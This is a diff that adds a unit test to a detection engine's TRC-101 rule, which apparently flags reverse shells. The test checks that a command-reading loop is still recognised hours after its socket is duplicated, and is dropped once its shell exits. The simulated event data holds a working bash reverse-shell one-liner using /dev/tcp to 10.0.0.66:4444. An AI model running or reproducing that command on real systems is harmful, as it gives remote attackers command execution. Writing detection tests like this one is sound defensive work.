@@ -222,6 +222,25 @@ describe("TRC-101 precise profile: one socket, one finding", () => {
 });
 
 describe("TRC-101 precise profile: bounds", () => {
+  it("a read loop whose first command comes two hours after the dup is still recognised while its shell lives", () => {
+    const hours = (h: number) => h * 60 * 60_000;
+    const loop = (exitFirst: boolean) => run([
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/4444; sleep 7200; while read c <&3; do $c >&3; done"], [onTty, onTty, onTty], 0),
+      dupOnto(shell, 0, [0], 1),
+      // Another process's exec an hour and a bit in: the judge's sweep runs with the reader old.
+      ...start(proc(300, 1, "cron"), "/usr/sbin/cron", ["cron"], [devnull, devnull, devnull], hours(1) + 10),
+      ...(exitFirst ? [exit({ task: shell, timeMs: at(hours(1) + 20) })] : []),
+      ...start(proc(301, 1, "cron"), "/usr/sbin/cron", ["cron"], [devnull, devnull, devnull], hours(1.5)),
+      fork({ task: child, timeMs: at(hours(2)) }),
+      dupOnto(child, 1, [1], hours(2) + 1),
+      exec({ task: child, filename: "/usr/bin/id", args: ["id"], stdio: [onTty, inet(SOCK), onTty], timeMs: at(hours(2) + 2) }),
+    ]);
+    const waited = loop(false);
+    expect(waited.findings.map((f) => (f.sockeye["verdict"] as { reason: string }).reason)).toEqual(["runs_commands_read_from_socket"]);
+    // Its shell gone (exit seen): the reader is not kept, and a program on the socket's stdout alone is no shell.
+    expect(loop(true).findings).toEqual([]);
+  });
+
   it("reports the oldest held trigger when too many processes hold one, instead of dropping it", () => {
     const engine = new Engine({ rules: [createTrc101Rule({ precise: { maxHeldProcesses: 2 } })], hostName: "h", logger: silentLogger });
     const findings = [1, 2, 3].flatMap((n) =>
